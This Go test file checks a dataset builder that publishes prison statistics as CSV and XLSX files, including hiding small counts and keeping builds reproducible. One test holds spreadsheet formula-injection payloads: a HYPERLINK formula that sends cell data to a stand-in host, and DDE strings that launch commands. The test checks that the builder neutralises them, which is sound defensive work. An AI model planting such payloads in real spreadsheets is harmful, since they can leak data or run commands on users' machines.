package dataset

import (
	"bytes"
	"encoding/csv"
	"fmt"
	"github.com/prisonstats/prisonstats/internal/manifest"
	"path"
	"strconv"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"

	"github.com/prisonstats/prisonstats/internal/compute"
	"github.com/prisonstats/prisonstats/internal/obs"
	"github.com/prisonstats/prisonstats/internal/places"
	"github.com/prisonstats/prisonstats/internal/protect"
	"github.com/prisonstats/prisonstats/internal/rules"
)

// protected computes and protects a few prisons' figures with the real
// gazetteer and rules. KH-12-CC1 has 2 pregnant women: a count protect
// must hide. It returns the raw observations, the unprotected and the
// protected result.
func protected(t *testing.T) ([]obs.Observation, *compute.Result, *compute.Result) {
	t.Helper()
	g, err := places.Load("../../data/places.toml")
	if err != nil {
		t.Fatal(err)
	}
	r, err := rules.Load("../../data/rules.toml")
	if err != nil {
		t.Fatal(err)
	}
	var os []obs.Observation
	row := 1
	add := func(place, measure, sex, cat string, v float64) {
		row++
		os = append(os, obs.Observation{Date: "2012-12-31", Place: place, Sex: sex, Status: obs.Total, Age: obs.Total,
			Measure: measure, Category: cat, Value: obs.Num(v),
			Source: obs.Source{File: "data/raw/t.xlsx", Sheet: "2012", Cell: fmt.Sprintf("B%d", row)}})
	}
	for _, f := range []struct {
		place         string
		pregnant      float64
		female, total float64
		under1, over3 float64
	}{
		{"KH-12-CC1", 2, 180, 2200, 6, 7},
		{"KH-12-CC2", 9, 250, 900, 8, 9},
		{"KH-3-CC3", 7, 40, 1300, 9, 12},
		{"KH-3-PP", 6, 60, 700, 5, 8},
	} {
		add(f.place, obs.Pregnant, obs.Female, "", f.pregnant)
		add(f.place, obs.Prisoners, obs.Female, "", f.female)
		add(f.place, obs.Prisoners, obs.Total, "", f.total)
		add(f.place, obs.ChildrenInPrison, obs.Total, "under_1", f.under1)
		add(f.place, obs.ChildrenInPrison, obs.Total, "over_3", f.over3)
	}
	res, err := compute.Run(os, compute.Options{Places: g, Rules: r})
	if err != nil {
		t.Fatal(err)
	}
	out, _, err := protect.Apply(res, g, r)
	if err != nil {
		t.Fatal(err)
	}
	return os, res, out
}

func build(t *testing.T, os []obs.Observation, res *compute.Result) map[string][]byte {
	t.Helper()
	files, err := Build(os, res, []SourceInfo{{File: "data/raw/t.xlsx", Publisher: "General Department of Prisons",
		Received: "2016-02-01", Licence: "CC BY 4.0", SHA256: "abc123"}}, "2012-12-31")
	if err != nil {
		t.Fatal(err)
	}
	return files
}

func readCSV(t *testing.T, b []byte) []map[string]string {
	t.Helper()
	recs, err := csv.NewReader(bytes.NewReader(b)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	var out []map[string]string
	for _, rec := range recs[1:] {
		m := map[string]string{}
		for i, h := range recs[0] {
			m[h] = rec[i]
		}
		out = append(out, m)
	}
	return out
}

func TestBuildPublishesEveryFileTwice(t *testing.T) {
	os, _, res := protected(t)
	files := build(t, os, res)
	for _, name := range []string{"observations.csv", "observations.xlsx", "data-dictionary.csv", "sources.csv",
		"series/prisoners.csv", "series/pregnant.csv", "series/female_share.csv"} {
		a, ok1 := files[path.Join("downloads/2012-12-31", name)]
		b, ok2 := files[path.Join("downloads/latest", name)]
		if !ok1 || !ok2 {
			t.Errorf("%s: in release %v, in latest %v; want both", name, ok1, ok2)
			continue
		}
		if !bytes.Equal(a, b) {
			t.Errorf("%s differs between the release and latest", name)
		}
	}
	for _, bad := range []string{"", "latest", "../x", "a/b", ".hidden"} {
		if _, err := Build(os, res, nil, bad); err == nil {
			t.Errorf("Build(release %q) = nil error, want one", bad)
		}
	}
}

// TestObservationsMatchTheResult: every published count of the protected
// result is in observations.csv with its value and sources, and only
// counts are there.
func TestObservationsMatchTheResult(t *testing.T) {
	os, _, res := protected(t)
	rows := readCSV(t, build(t, os, res)["downloads/2012-12-31/observations.csv"])
	got := map[string]map[string]string{}
	for _, r := range rows {
		if r["unit"] != "count" {
			t.Errorf("observations.csv holds a %s: %v", r["unit"], r)
		}
		got[r["indicator"]+"|"+r["place"]+"|"+r["breakdown"]+"|"+r["date"]] = r
	}
	n := 0
	for _, s := range res.Series {
		for _, p := range s.Points {
			k := s.Indicator + "|" + s.Place + "|" + s.Breakdown + "|" + p.Date
			r, ok := got[k]
			if !ok {
				continue // not a count; checked above that only counts are there
			}
			n++
			if p.Value.OK() {
				v, err := strconv.ParseFloat(r["value"], 64)
				if err != nil || v != p.Value.Num || r["status"] != "published" {
					t.Errorf("%s: value %q status %q, want %v published", k, r["value"], r["status"], p.Value.Num)
				}
				if len(p.Sources) > 0 && !strings.Contains(r["sources"], p.Sources[0].String()) {
					t.Errorf("%s: sources %q lack %s", k, r["sources"], p.Sources[0])
				}
			} else if r["value"] != "" || r["status"] != p.Value.Missing.String() {
				t.Errorf("%s: value %q status %q, want empty and %s", k, r["value"], r["status"], p.Value.Missing)
			}
		}
	}
	if n != len(rows) || n == 0 {
		t.Errorf("observations.csv has %d rows, %d of them match the result", len(rows), n)
	}
	female, ok := got["prisoners|KH-12-CC2|female|2012-12-31"]
	if !ok || female["value"] != "250" || female["sources"] != "data/raw/t.xlsx:2012!B8" {
		t.Errorf("KH-12-CC2 women = %v, want 250 from data/raw/t.xlsx:2012!B8", female)
	}
}

// TestHiddenCountsAreAbsent: the 2 pregnant women of KH-12-CC1, and every
// other count protect hid, appear in no file with their number.
func TestHiddenCountsAreAbsent(t *testing.T) {
	os, raw, res := protected(t)
	files := build(t, os, res)
	type hidden struct {
		ind, place, breakdown, date, value string
	}
	var hid []hidden
	for _, s := range res.Series {
		for _, p := range s.Points {
			if p.Value.Missing != obs.Suppressed {
				continue
			}
			rs, _ := raw.Get(s.Indicator, s.Place, s.Breakdown)
			for _, rp := range rs.Points {
				if rp.Date == p.Date && rp.Value.OK() {
					hid = append(hid, hidden{s.Indicator, s.Place, s.Breakdown, p.Date, strconv.FormatFloat(rp.Value.Num, 'f', -1, 64)})
				}
			}
		}
	}
	found := false
	for _, h := range hid {
		if h.ind == "pregnant" && h.place == "KH-12-CC1" && h.value == "2" {
			found = true
		}
	}
	if !found {
		t.Fatalf("protect did not hide KH-12-CC1's 2 pregnant women (hidden: %v); the test data no longer tests anything", hid)
	}
	for name, b := range files {
		if strings.HasSuffix(name, ".xlsx") {
			continue
		}
		for _, h := range hid {
			// The raw value in its row's context: (indicator, unit,) place,
			// level, date, year, breakdown, then the value.
			ctx := fmt.Sprintf("%s,%s,%s,%s,%s,%s,", h.place, res.Levels[h.place], h.date, h.date[:4], h.breakdown, h.value)
			switch {
			case strings.HasSuffix(name, "/observations.csv"):
				ctx = h.ind + ",count," + ctx
			case strings.HasSuffix(name, "/series/"+h.ind+".csv"):
			default:
				continue
			}
			if strings.Contains(string(b), ctx) {
				t.Errorf("%s: hidden %s %s %s = %s is published (%q)", name, h.ind, h.place, h.breakdown, h.value, ctx)
			}
		}
	}
	// The same in the workbook.
	f, err := excelize.OpenReader(bytes.NewReader(files["downloads/2012-12-31/observations.xlsx"]))
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	rows := xlsxRows(t, f, SheetObservations)
	for _, r := range rows[1:] {
		for _, h := range hid {
			if r[0] == h.ind && r[2] == h.place && r[6] == h.breakdown && r[4] == h.date && (len(r) < 9 || r[7] != "" || r[8] != "suppressed") {
				t.Errorf("observations.xlsx row %v: hidden value is not blank and suppressed", r)
			}
		}
	}
}

// TestBuildNeverCarriesAHiddenNumber: a suppressed point that still holds
// its number (a careless upstream copy) is written without it.
func TestBuildNeverCarriesAHiddenNumber(t *testing.T) {
	res := &compute.Result{
		Catalogue: []compute.Indicator{{ID: "pregnant", Name: "Pregnant women", Unit: "count"}},
		Series: []compute.Series{{Indicator: "pregnant", Place: "KH-12-CC1", Points: []compute.Point{
			{Date: "2012-12-31", Value: obs.Value{Num: 3, Missing: obs.Suppressed}, Reason: "fewer than 5"},
		}}},
	}
	files, err := Build(nil, res, nil, "r1")
	if err != nil {
		t.Fatal(err)
	}
	rows := readCSV(t, files["downloads/r1/observations.csv"])
	if len(rows) != 1 || rows[0]["value"] != "" || rows[0]["status"] != "suppressed" || rows[0]["reason"] != "fewer than 5" {
		t.Errorf("observations.csv = %v, want one row, value empty, status suppressed, reason fewer than 5", rows)
	}
}

func xlsxRows(t *testing.T, f *excelize.File, sheet string) [][]string {
	t.Helper()
	it, err := f.Rows(sheet)
	if err != nil {
		t.Fatal(err)
	}
	var out [][]string
	for it.Next() {
		r, err := it.Columns()
		if err != nil {
			t.Fatal(err)
		}
		out = append(out, r)
	}
	if err := it.Error(); err != nil {
		t.Fatal(err)
	}
	if err := it.Close(); err != nil {
		t.Fatal(err)
	}
	return out
}

// TestWorkbookReadsBack: the XLSX holds the CSV's rows, with numbers as
// numbers.
func TestWorkbookReadsBack(t *testing.T) {
	os, _, res := protected(t)
	files := build(t, os, res)
	csvRows := readCSV(t, files["downloads/2012-12-31/observations.csv"])
	f, err := excelize.OpenReader(bytes.NewReader(files["downloads/2012-12-31/observations.xlsx"]))
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	if got := f.GetSheetList(); strings.Join(got, ",") != "observations,dictionary,sources" {
		t.Errorf("sheets = %v, want observations, dictionary, sources", got)
	}
	rows := xlsxRows(t, f, SheetObservations)
	if len(rows)-1 != len(csvRows) {
		t.Fatalf("observations.xlsx has %d rows, observations.csv %d", len(rows)-1, len(csvRows))
	}
	numbers := 0
	for i, c := range csvRows {
		if c["value"] == "" {
			continue
		}
		cell, _ := excelize.CoordinatesToCellName(8, i+2)
		typ, err := f.GetCellType(SheetObservations, cell)
		if err != nil {
			t.Fatal(err)
		}
		v, err := f.GetCellValue(SheetObservations, cell)
		if err != nil {
			t.Fatal(err)
		}
		if typ == excelize.CellTypeInlineString || typ == excelize.CellTypeSharedString || v != c["value"] {
			t.Errorf("%s = %q (type %v), want the number %s", cell, v, typ, c["value"])
		}
		numbers++
	}
	if numbers == 0 {
		t.Error("no numbers compared")
	}
	src := xlsxRows(t, f, SheetSources)
	if len(src) != 2 || src[1][0] != "data/raw/t.xlsx" || src[1][4] != "abc123" || src[1][5] != strconv.Itoa(len(os)) {
		t.Errorf("sources sheet = %v, want data/raw/t.xlsx with sha256 abc123 and %d observations", src, len(os))
	}
}

// TestFormulaInjectionIsNeutralised: a label from a spreadsheet that starts
// like a formula is text in every file.
func TestFormulaInjectionIsNeutralised(t *testing.T) {
	const evil = `=HYPERLINK("http://x.example/?"&A1,"click")`
	res := &compute.Result{
		Catalogue: []compute.Indicator{{ID: "prisoners", Name: "Prisoners", Unit: "count", Definition: "+cmd|' /C calc'!A0"}},
		Series: []compute.Series{{Indicator: "prisoners", Place: "KH", Breakdown: "-2+3", Points: []compute.Point{
			{Date: "2012-12-31", Value: obs.Num(-5), Note: "@SUM(1+1)*cmd|' /C calc'!A0", Sources: []obs.Source{{File: evil}}},
		}}},
	}
	files, err := Build([]obs.Observation{{Source: obs.Source{File: evil}}}, res, nil, "r1")
	if err != nil {
		t.Fatal(err)
	}
	for _, name := range []string{"observations.csv", "series/prisoners.csv", "sources.csv", "data-dictionary.csv"} {
		recs, err := csv.NewReader(bytes.NewReader(files["downloads/r1/"+name])).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		for _, rec := range recs {
			for i, cell := range rec {
				if cell == "" || !strings.ContainsRune("=+-@", rune(cell[0])) {
					continue
				}
				if name != "sources.csv" && rec[0] != "file" && cell == "-5" {
					continue // a number stays a number
				}
				t.Errorf("%s: cell %d %q starts like a formula", name, i, cell)
			}
		}
	}
	obsRows := readCSV(t, files["downloads/r1/observations.csv"])
	if obsRows[0]["value"] != "-5" || obsRows[0]["breakdown"] != "'-2+3" {
		t.Errorf("observations.csv value, breakdown = %q, %q; want -5 (a number) and '-2+3", obsRows[0]["value"], obsRows[0]["breakdown"])
	}
	f, err := excelize.OpenReader(bytes.NewReader(files["downloads/r1/observations.xlsx"]))
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	for _, cell := range []string{"G2", "K2", "L2"} {
		if fo, err := f.GetCellFormula(SheetObservations, cell); err != nil || fo != "" {
			t.Errorf("observations.xlsx %s formula = %q, %v; want none", cell, fo, err)
		}
	}
	if v, _ := f.GetCellValue(SheetObservations, "L2"); v != evil {
		t.Errorf("observations.xlsx L2 = %q, want the text %q", v, evil)
	}
}

func TestPageDataListsTheFiles(t *testing.T) {
	os, _, res := protected(t)
	files := build(t, os, res)
	p := PageData(res, "2012-12-31", files)
	if len(p.Files) != 4 || p.Files[0].Name != "observations.csv" || p.Files[0].URL != "/downloads/2012-12-31/observations.csv" ||
		p.Files[0].LatestURL != "/downloads/latest/observations.csv" {
		t.Errorf("PageData files = %+v, want observations.csv first, with release and latest URLs", p.Files)
	}
	if len(p.Series) == 0 || len(p.Dictionary) == 0 {
		t.Errorf("PageData: %d series, %d dictionary entries; want some of each", len(p.Series), len(p.Dictionary))
	}
}

func TestSourcesFromTheSampleManifest(t *testing.T) {
	m, err := manifest.Load("../../data/raw/MANIFEST.toml")
	if err != nil {
		t.Fatal(err)
	}
	got := Sources(m)
	if len(got) == 0 || got[0].File == "" || len(got[0].SHA256) != 64 || got[0].Received == "" || got[0].Licence == "" {
		t.Errorf("Sources(sample manifest) = %+v, want files with sha256, date received and licence", got)
	}
}

func TestSourceListGroupsCellsOfASheet(t *testing.T) {
	r := row{sources: []obs.Source{{File: "a.xlsx", Sheet: "2012", Cell: "M5"}, {File: "a.xlsx", Sheet: "2012", Cell: "M6"},
		{File: "a.xlsx", Sheet: "2013", Cell: "M5"}, {File: "b.csv", Line: 3, Column: 4}}}
	if got, want := r.sourceList(), "a.xlsx:2012!M5,M6; a.xlsx:2013!M5; b.csv:3:4"; got != want {
		t.Errorf("sourceList() = %q, want %q", got, want)
	}
}

func TestBuildIsReproducible(t *testing.T) {
	os, _, res := protected(t)
	a, b := build(t, os, res), build(t, os, res)
	if len(a) != len(b) {
		t.Fatalf("two builds give %d and %d files", len(a), len(b))
	}
	for name := range a {
		if !bytes.Equal(a[name], b[name]) {
			t.Errorf("%s differs between two builds of the same data", name)
		}
	}
}
